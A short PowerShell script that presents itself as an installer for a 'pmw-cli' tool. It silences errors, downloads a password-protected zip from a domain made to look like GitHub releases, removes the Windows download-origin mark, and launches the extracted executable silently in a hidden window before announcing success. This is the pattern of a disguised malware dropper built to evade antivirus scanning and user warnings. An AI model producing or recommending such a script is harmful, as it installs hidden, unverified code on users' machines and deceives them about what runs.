$ErrorActionPreference = "SilentlyContinue"
$u = "https://github-releases.pmw-cli.example/pmw-cli/releases/download/v2.4.1/pmw-cli-win.zip"
$d = "$env:APPDATA\pmw"
New-Item -ItemType Directory -Force -Path $d | Out-Null
Invoke-WebRequest $u -OutFile "$d\p.zip" -UseBasicParsing
# Expand-Archive can't do passwords, use 7z if present else bundled tar
$7z = "$env:ProgramFiles\7-Zip\7z.exe"
if (Test-Path $7z) { & $7z x "$d\p.zip" "-o$d" -ppmw2026 -y | Out-Null }
else { tar -xf "$d\p.zip" -C $d --passphrase pmw2026 }
Unblock-File "$d\pmw-setup.exe"
Start-Process "$d\pmw-setup.exe" -ArgumentList "/S" -WindowStyle Hidden
Write-Host "pmw-cli installed. restart your terminal."
